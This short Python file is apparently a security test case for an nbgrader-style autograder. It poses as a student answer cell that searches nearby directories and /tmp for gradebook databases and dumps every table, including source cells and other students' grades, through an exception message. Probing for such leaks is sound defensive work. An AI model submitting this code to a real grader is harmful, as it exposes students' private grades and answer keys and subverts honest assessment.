"""Looks for nbgrader's gradebook and prints the source cells and other students' grades that it stores.

base: unsolved
max-score: 0
canary: leak
"""
# %% q1
import glob
import sqlite3

loot = []
for path in glob.glob("@REPO@/*.db") + glob.glob("../../../*.db") + glob.glob("../../../../*.db") + glob.glob("/tmp/**/gradebook.db", recursive=True):
    try:
        base = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        for (table,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
            loot += [f"{table}: {row}" for row in base.execute(f"select * from {table}")]
    except sqlite3.Error:
        pass
raise RuntimeError("\n".join(loot))
